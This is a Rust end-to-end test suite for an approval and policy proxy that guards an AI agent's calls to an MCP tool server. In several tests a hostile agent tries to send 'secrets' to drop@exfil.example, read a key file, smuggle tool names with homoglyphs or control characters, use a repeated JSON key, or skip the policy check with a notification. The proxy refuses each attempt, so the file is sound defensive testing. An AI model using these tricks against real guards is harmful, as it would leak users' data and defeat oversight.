//! `warden mcp` end to end: the real binary between a scripted agent and the real example MCP
//! server, with the real journal and policies.

mod support;

use serde_json::{Value, json};
use support::*;

#[test]
fn an_allowed_call_is_journaled_before_it_takes_effect() {
    let setup = Setup::new("", "");
    let mut s = setup.start("alice", &[]);
    s.initialize();
    let r = s.call(
        json!(1),
        "send_message",
        json!({"to": "team@example.com", "body": "hello"}),
    );
    assert_eq!(result_text(&r), "sent to team@example.com", "{r}");
    let (status, stderr) = s.finish();
    assert!(status.success(), "{stderr}");

    let records = setup.records();
    let decision = records.iter().find(|r| r.kind == "decision").unwrap();
    assert_eq!(decision.agent.as_str(), "alice");
    assert_eq!(decision.body["effect"], "allow");
    assert_eq!(decision.body["target"], "files/send_message");
    assert_eq!(decision.body["policies"], json!(["alice-messages-team"]));
    assert!(
        decision.body["args_digest"]
            .as_str()
            .unwrap()
            .starts_with("sha256:")
    );
    let outcome = records.iter().find(|r| r.kind == "outcome").unwrap();
    assert!(outcome.seq > decision.seq);
    assert_eq!(outcome.body["decision_seq"], decision.seq);
    assert_eq!(outcome.body["outcome"], "ok");
    assert_eq!(setup.outbox().len(), 1);
}

#[test]
fn a_refused_call_never_reaches_the_server() {
    let setup = Setup::new("", "");
    let mut s = setup.start("mallory", &[]);
    s.initialize();
    let r = s.call(
        json!("exfil"),
        "send_message",
        json!({"to": "drop@exfil.example", "body": "secrets"}),
    );
    assert_eq!(r["id"], "exfil");
    assert_eq!(r["result"]["isError"], true);
    assert_eq!(refusal_effect(&r).as_deref(), Some("deny"));
    let text = result_text(&r);
    assert!(text.contains("no policy permits"), "{text}");
    assert!(text.contains("mallory"), "{text}");
    let seq = r["result"]["_meta"]["warden/decision"]["journal_seq"]
        .as_u64()
        .unwrap();

    let r = s.call(json!(2), "read_file", json!({"path": "secrets/key.env"}));
    assert_eq!(refusal_effect(&r).as_deref(), Some("deny"));
    assert!(result_text(&r).contains("off limits"));
    assert!(!result_text(&r).contains("test-fixture"));
    s.finish();

    assert!(
        setup.outbox().is_empty(),
        "the refused message was delivered"
    );
    let decisions = setup.decisions();
    let refused = decisions.iter().find(|d| d.seq == seq).unwrap();
    assert_eq!(refused.body["effect"], "deny");
    // Refused calls have no outcome: nothing happened.
    assert!(!setup.records().iter().any(|r| r.kind == "outcome"));
}

#[test]
fn a_held_call_is_approved_from_another_process() {
    let setup = Setup::new("[approvals]\nhold = true\ntimeout_secs = 60\n", "");
    let mut s = setup.start("alice", &[]);
    s.initialize();
    s.send(&json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call",
                   "params": {"name": "transfer", "arguments": {"to": "acme", "amount": 5000}}}));
    let cfg = setup.config();
    let cfg = cfg.to_str().unwrap();
    // The request is journaled by the other process; look until it is listed (bounded).
    let deadline = std::time::Instant::now() + HANG_GUARD;
    let seq = loop {
        let (status, out, err) = warden(&["approvals", "--config", cfg], setup.dir.path());
        assert!(status.success(), "{err}");
        if let Some(line) = out.lines().find(|l| l.contains("files/transfer")) {
            break line.split_whitespace().next().unwrap().to_owned();
        }
        assert!(std::time::Instant::now() < deadline, "never listed: {out}");
        std::thread::sleep(std::time::Duration::from_millis(100));
    };
    let (status, _, err) = warden(
        &[
            "approvals",
            "approve",
            &seq,
            "--reason",
            "",
            "--config",
            cfg,
        ],
        setup.dir.path(),
    );
    assert!(!status.success(), "a reason is required");
    assert!(err.contains("reason"), "{err}");
    let (status, out, err) = warden(
        &[
            "approvals",
            "approve",
            &seq,
            "--reason",
            "ticket 9",
            "--config",
            cfg,
        ],
        setup.dir.path(),
    );
    assert!(status.success(), "{err}");
    assert!(out.contains("approve"), "{out}");
    let r = s.response(&json!(7));
    assert_eq!(
        refusal_effect(&r),
        None,
        "the approved call went through: {r}"
    );
    let (status, _, err) = warden(
        &[
            "approvals",
            "deny",
            &seq,
            "--reason",
            "too late",
            "--config",
            cfg,
        ],
        setup.dir.path(),
    );
    assert!(!status.success());
    assert!(err.contains("already answered"), "{err}");
    s.finish();
    let kinds: Vec<String> = setup.records().into_iter().map(|r| r.kind).collect();
    assert!(
        kinds.contains(&"approval_requested".to_owned()),
        "{kinds:?}"
    );
    assert!(kinds.contains(&"approval_answered".to_owned()), "{kinds:?}");
    assert!(kinds.contains(&"outcome".to_owned()), "{kinds:?}");
}

#[test]
fn a_held_call_lets_the_agent_go_on_and_its_cancellation_withdraws_it() {
    // Longer than the hang guard: nothing below may wait for the hold to time out.
    let setup = Setup::new("[approvals]\nhold = true\ntimeout_secs = 600\n", "");
    let mut s = setup.start("alice", &[]);
    s.initialize();
    hold_a_transfer(&setup, &mut s);
    // The agent's later messages are not stuck behind the held call.
    let pong = s.request(json!(8), "ping", json!({}));
    assert_eq!(pong["result"], json!({}), "{pong}");
    let r = s.call(json!(9), "read_file", json!({"path": "notes.txt"}));
    assert_eq!(refusal_effect(&r), None, "{r}");
    // Cancelling the held call withdraws it: journaled, and nobody can approve it any more.
    s.send(
        &json!({"jsonrpc": "2.0", "method": "notifications/cancelled",
                   "params": {"requestId": 7, "reason": "the user changed their mind"}}),
    );
    let deadline = std::time::Instant::now() + HANG_GUARD;
    let answered = loop {
        if let Some(r) = setup
            .records()
            .into_iter()
            .find(|r| r.kind == "approval_answered")
        {
            break r;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the withdrawal was never journaled"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    assert_eq!(answered.body["answer"], "withdrawn", "{:?}", answered.body);
    assert_eq!(answered.body["by"], "agent");
    assert_eq!(answered.body["reason"], "the user changed their mind");
    let cfg = setup.config();
    let (status, out, err) = warden(
        &["approvals", "--config", cfg.to_str().unwrap()],
        setup.dir.path(),
    );
    assert!(status.success(), "{err}");
    assert!(!out.contains("files/transfer"), "no longer pending: {out}");
    let r = s.call(json!(10), "read_file", json!({"path": "notes.txt"}));
    assert_eq!(refusal_effect(&r), None, "{r}");
    let mut seen = std::mem::take(&mut s.other);
    let _ = s.finish();
    seen.retain(|m| m.get("id") == Some(&json!(7)));
    assert!(
        seen.is_empty(),
        "a cancelled request gets no answer: {seen:?}"
    );
}

#[test]
fn a_call_held_when_the_agent_disconnects_is_withdrawn_by_warden() {
    // Longer than the hang guard: the session's end, not the hold's timeout, must end it.
    let setup = Setup::new("[approvals]\nhold = true\ntimeout_secs = 600\n", "");
    let mut s = setup.start("alice", &[]);
    s.initialize();
    hold_a_transfer(&setup, &mut s);
    let (status, stderr) = s.finish();
    assert!(status.success(), "{stderr}");
    assert_withdrawn_by_warden_before_the_end(&setup, "the agent closed the session");
    // Nobody can approve it any more.
    let cfg = setup.config();
    let (status, out, err) = warden(
        &["approvals", "--config", cfg.to_str().unwrap()],
        setup.dir.path(),
    );
    assert!(status.success(), "{err}");
    assert!(!out.contains("files/transfer"), "no longer pending: {out}");
}

#[test]
fn a_call_held_when_the_upstream_exits_is_withdrawn_and_answered() {
    let setup = Setup::new("[approvals]\nhold = true\ntimeout_secs = 600\n", "");
    let mut s = setup.start("alice", &["--misbehave", "crash-on-call"]);
    s.initialize();
    hold_a_transfer(&setup, &mut s);
    // A permitted call reaches the upstream, which crashes on it.
    let r = s.call(json!(8), "read_file", json!({"path": "notes.txt"}));
    assert_eq!(r["error"]["code"], -32002, "{r}");
    // The held call is answered too: the agent is not left waiting.
    let held = s.response(&json!(7));
    assert_eq!(held["error"]["code"], -32002, "{held}");
    let _ = s.finish();
    assert_withdrawn_by_warden_before_the_end(&setup, "the upstream server exited");
}

/// The journal closes the held call as withdrawn by Warden for `reason`, before the session's
/// end.
fn assert_withdrawn_by_warden_before_the_end(setup: &Setup, reason: &str) {
    let records = setup.records();
    let kinds: Vec<&str> = records.iter().map(|r| r.kind.as_str()).collect();
    let answered = records
        .iter()
        .position(|r| r.kind == "approval_answered")
        .unwrap_or_else(|| panic!("the hold was left open: {kinds:?}"));
    let body = &records[answered].body;
    assert_eq!(body["answer"], "withdrawn", "{body}");
    assert_eq!(body["by"], "warden", "{body}");
    assert_eq!(body["reason"], reason, "{body}");
    let ended = records
        .iter()
        .position(|r| r.kind == "session_ended")
        .unwrap_or_else(|| panic!("no session_ended: {kinds:?}"));
    assert!(
        answered < ended,
        "withdrawn before the session ended: {kinds:?}"
    );
}

/// Sends call 7, a transfer that needs a human, and waits (bounded) until it is held.
fn hold_a_transfer(setup: &Setup, s: &mut Session) {
    s.send(&json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call",
                   "params": {"name": "transfer", "arguments": {"to": "acme", "amount": 5000}}}));
    let deadline = std::time::Instant::now() + HANG_GUARD;
    while !setup
        .records()
        .iter()
        .any(|r| r.kind == "approval_requested")
    {
        assert!(
            std::time::Instant::now() < deadline,
            "the call was never held"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

#[test]
fn ask_is_refused_at_once_when_approvals_do_not_hold() {
    let setup = Setup::new("", "");
    let mut s = setup.start("alice", &[]);
    s.initialize();
    let r = s.call(json!(1), "transfer", json!({"to": "acme", "amount": 5000}));
    assert_eq!(refusal_effect(&r).as_deref(), Some("ask"));
    assert!(result_text(&r).contains("approval required"), "{r}");
    s.finish();
    assert_eq!(setup.decisions()[0].body["effect"], "ask");
}

#[test]
fn tools_list_shows_only_what_the_agent_may_call() {
    let setup = Setup::new("", "");
    let mut s = setup.start("mallory", &[]);
    s.initialize();
    let r = s.request(json!(1), "tools/list", json!({}));
    let mut names: Vec<&str> = r["result"]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap())
        .collect();
    names.sort();
    assert_eq!(names, ["list_dir", "read_file"]);
    s.finish();
}

#[test]
fn what_warden_does_not_decide_passes_through_intact() {
    let setup = Setup::new("", TESTER_POLICY);
    let mut s = setup.start("tester", &[]);
    let init = s.initialize();
    assert_eq!(init["result"]["protocolVersion"], "2025-06-18");

    // ping, with a string id
    let r = s.request(json!("p-1"), "ping", json!({}));
    assert_eq!(r, json!({"jsonrpc": "2.0", "id": "p-1", "result": {}}));

    // _meta reaches the server
    let r = s.request(
        json!(2),
        "tools/call",
        json!({"name": "echo", "arguments": {"x": [1, 2]}, "_meta": {"trace": "t-1"}}),
    );
    let echoed: Value = serde_json::from_str(&result_text(&r)).unwrap();
    assert_eq!(echoed["_meta"]["trace"], "t-1");
    assert_eq!(echoed["arguments"], json!({"x": [1, 2]}));

    // progress notifications come back before the result
    let r = s.request(
        json!(3),
        "tools/call",
        json!({"name": "slow_count", "arguments": {"n": 3, "delay_ms": 1},
               "_meta": {"progressToken": "tok"}}),
    );
    assert_ne!(r["result"]["isError"], true, "{r}");
    let progress: Vec<&Value> = s
        .other
        .iter()
        .filter(|m| m["method"] == "notifications/progress")
        .collect();
    assert_eq!(progress.len(), 3, "{:?}", s.other);
    assert!(
        progress
            .iter()
            .all(|m| m["params"]["progressToken"] == "tok")
    );

    // a server-to-client request, answered by the agent, keeps its id both ways
    s.send(&json!({"jsonrpc": "2.0", "id": 4, "method": "tools/call",
                   "params": {"name": "ask_roots", "arguments": {}}}));
    let request = s.recv().unwrap();
    assert_eq!(request["method"], "roots/list");
    let server_id = request["id"].clone();
    s.send(&json!({"jsonrpc": "2.0", "id": server_id,
                   "result": {"roots": [{"uri": "file:///agent-root", "name": "r"}]}}));
    let r = s.response(&json!(4));
    assert!(result_text(&r).contains("file:///agent-root"), "{r}");

    // a method Warden does not know goes to the server, and its answer comes back
    let r = s.request(json!(5), "vendor/custom", json!({"a": 1}));
    assert_eq!(r["error"]["code"], -32601, "{r}");
    s.finish();
}

#[test]
fn bad_messages_get_clear_errors_and_the_session_goes_on() {
    let setup = Setup::new("[limits]\nmax_message_bytes = 65536\n", TESTER_POLICY);
    let mut s = setup.start("tester", &[]);
    s.initialize();

    s.send_raw(b"{not json\n");
    let r = s.recv().unwrap();
    assert_eq!(r["error"]["code"], -32700);
    assert_eq!(r["id"], Value::Null);

    s.send_raw(b"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\",\"x\":\"\xff\xfe\"}\n");
    assert_eq!(s.recv().unwrap()["error"]["code"], -32700, "invalid UTF-8");

    s.send(&json!({"jsonrpc": "1.0", "id": 7, "method": "ping"}));
    let r = s.response(&json!(7));
    assert_eq!(r["error"]["code"], -32600);

    s.send(&json!([{"jsonrpc": "2.0", "id": 8, "method": "tools/call",
                    "params": {"name": "delete_file", "arguments": {"path": "notes.txt"}}}]));
    let r = s.recv().unwrap();
    assert_eq!(r["error"]["code"], -32600, "batches are refused: {r}");

    let big = "x".repeat(100_000);
    s.send(&json!({"jsonrpc": "2.0", "id": 9, "method": "tools/call",
                   "params": {"name": "echo", "arguments": {"blob": big}}}));
    let r = s.response(&json!(9));
    assert_eq!(r["error"]["code"], -32003, "{r}");

    let r = s.request(json!(10), "tools/call", json!({"arguments": {}}));
    assert_eq!(r["error"]["code"], -32602);
    let r = s.request(
        json!(11),
        "tools/call",
        json!({"name": "echo", "arguments": [1]}),
    );
    assert_eq!(r["error"]["code"], -32602);

    // Deeply nested JSON is refused by the parser, not followed.
    let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    s.send_raw(
        format!(
            "{{\"jsonrpc\":\"2.0\",\"id\":12,\"method\":\"ping\",\"params\":{{\"d\":{deep}}}}}\n"
        )
        .as_bytes(),
    );
    let r = s.recv().unwrap();
    assert!(
        r["error"]["code"] == -32700 || r["error"]["code"] == -32003,
        "{r}"
    );

    // After all that, the session still works.
    let r = s.request(json!(13), "ping", json!({}));
    assert_eq!(r["result"], json!({}));
    let (status, stderr) = s.finish();
    assert!(status.success(), "{stderr}");
    assert!(setup.outbox().is_empty());
    assert!(setup.path("workspace/notes.txt").exists());
}

#[test]
fn tool_name_tricks_match_no_permit() {
    let setup = Setup::new("", "");
    let mut s = setup.start("alice", &[]);
    s.initialize();
    for (i, name) in [
        "../read_file",
        "files/read_file",
        "read_file\u{0}",
        "read\u{202E}elif_daer",
        "read_fіle", // Cyrillic 'і'
        "READ_FILE",
        "",
    ]
    .into_iter()
    .enumerate()
    {
        let r = s.call(json!(i), name, json!({"path": "notes.txt"}));
        assert_eq!(refusal_effect(&r).as_deref(), Some("deny"), "{name:?}: {r}");
    }
    s.finish();
    let decisions = setup.decisions();
    assert_eq!(decisions.len(), 7);
    assert!(decisions.iter().all(|d| d.body["effect"] == "deny"));
}

#[test]
fn arguments_of_the_wrong_type_fail_closed() {
    let setup = Setup::new("", "");
    let mut s = setup.start("alice", &[]);
    s.initialize();
    for (i, amount) in [json!("50"), json!(50.5), json!([50]), json!({"v": 50})]
        .into_iter()
        .enumerate()
    {
        let r = s.call(
            json!(i),
            "transfer",
            json!({"to": "acme", "amount": amount}),
        );
        assert_eq!(refusal_effect(&r).as_deref(), Some("deny"), "{amount}: {r}");
    }
    let r = s.call(json!(9), "transfer", json!({"to": "acme", "amount": 50}));
    assert_eq!(refusal_effect(&r), None, "{r}");
    s.finish();
    assert!(
        !setup.path("workspace/.outbox/transfers.jsonl").exists() || {
            let t =
                std::fs::read_to_string(setup.path("workspace/.outbox/transfers.jsonl")).unwrap();
            t.lines().count() == 1
        }
    );
}

#[test]
fn a_request_id_in_flight_cannot_be_reused() {
    let setup = Setup::new("", TESTER_POLICY);
    let mut s = setup.start("tester", &[]);
    s.initialize();
    let slow = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                      "params": {"name": "slow_count", "arguments": {"n": 2, "delay_ms": 300}}});
    s.send(&slow);
    s.send(&slow);
    let first = s.recv().unwrap();
    assert_eq!(first["error"]["code"], -32600, "{first}");
    let second = s.response(&json!(1));
    assert!(second.get("result").is_some(), "{second}");
    s.finish();
}

#[test]
fn an_upstream_that_crashes_fails_the_call_and_ends_the_session() {
    let setup = Setup::new("", TESTER_POLICY);
    let mut s = setup.start("tester", &["--misbehave", "crash-on-call"]);
    s.initialize();
    let r = s.call(json!(1), "echo", json!({}));
    assert_eq!(r["error"]["code"], -32002, "{r}");
    let (status, stderr) = s.finish();
    assert_eq!(status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("upstream server exited"), "{stderr}");
    let outcome = setup
        .records()
        .into_iter()
        .find(|r| r.kind == "outcome")
        .unwrap();
    assert_eq!(outcome.body["outcome"], "upstream_gone");
}

#[test]
fn an_upstream_that_never_answers_initialize_times_out() {
    let setup = Setup::new("[limits]\ninitialize_timeout_secs = 0.5\n", TESTER_POLICY);
    let mut s = setup.start("tester", &["--misbehave", "hang-on-initialize"]);
    let r = s.request(
        json!(0),
        "initialize",
        json!({"protocolVersion": "2025-06-18", "capabilities": {},
               "clientInfo": {"name": "t", "version": "1"}}),
    );
    assert_eq!(r["error"]["code"], -32001, "{r}");
    assert!(
        r["error"]["message"]
            .as_str()
            .unwrap()
            .contains("initialize")
    );
    s.finish();
}

#[test]
fn upstream_silence_and_garbage_end_in_a_timeout_not_a_hang() {
    for mode in ["never-answer-calls", "garbage"] {
        let setup = Setup::new("[limits]\ncall_timeout_secs = 0.5\n", TESTER_POLICY);
        let mut s = setup.start("tester", &["--misbehave", mode]);
        s.initialize();
        let r = s.call(json!(1), "echo", json!({}));
        assert_eq!(r["error"]["code"], -32001, "{mode}: {r}");
        let r = s.request(json!(2), "ping", json!({}));
        assert_eq!(r["result"], json!({}), "{mode}: the session goes on");
        s.finish();
        let outcome = setup
            .records()
            .into_iter()
            .find(|r| r.kind == "outcome")
            .unwrap();
        assert_eq!(outcome.body["outcome"], "timeout", "{mode}");
    }
}

#[test]
fn an_oversize_answer_from_upstream_is_an_error_not_a_crash() {
    let setup = Setup::new("", TESTER_POLICY);
    let mut s = setup.start("tester", &["--misbehave", "huge-result"]);
    s.initialize();
    let r = s.call(json!("big"), "echo", json!({}));
    assert_eq!(r["error"]["code"], -32003, "{r}");
    let r = s.request(json!(2), "ping", json!({}));
    assert_eq!(r["result"], json!({}));
    s.finish();
}

#[test]
fn a_call_sent_without_an_id_is_never_forwarded_and_is_on_record() {
    let setup = Setup::new("", "");
    let mut s = setup.start("alice", &[]);
    s.initialize();
    // Allowed by policy as a request, but sent as a notification it would skip the decision.
    s.send(&json!({"jsonrpc": "2.0", "method": "tools/call",
                   "params": {"name": "send_message",
                              "arguments": {"to": "team@example.com", "body": "sneaky"}}}));
    s.send(&json!({"jsonrpc": "2.0", "method": "vendor/do_something", "params": {}}));
    let r = s.request(json!(1), "ping", json!({}));
    assert_eq!(r["result"], json!({}));
    s.finish();
    assert!(
        setup.outbox().is_empty(),
        "a call without an id reached the server"
    );
    let decisions = setup.decisions();
    assert_eq!(decisions.len(), 1);
    assert_eq!(decisions[0].body["effect"], "deny");
    assert!(
        decisions[0].body["reason"]
            .as_str()
            .unwrap()
            .contains("notification")
    );
}

#[test]
fn repeated_keys_are_refused_before_any_decision() {
    let setup = Setup::new("", "");
    let mut s = setup.start("alice", &[]);
    s.initialize();
    // serde_json would keep "team@example.com" (the last); a server keeping the first would
    // send to the outsider. Neither happens.
    s.send_raw(
        br#"{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"send_message","arguments":{"to":"drop@exfil.example","to":"team@example.com","body":"x"}}}
"#,
    );
    let r = s.response(&json!(5));
    assert_eq!(r["error"]["code"], -32600, "{r}");
    s.finish();
    assert!(setup.outbox().is_empty());
}
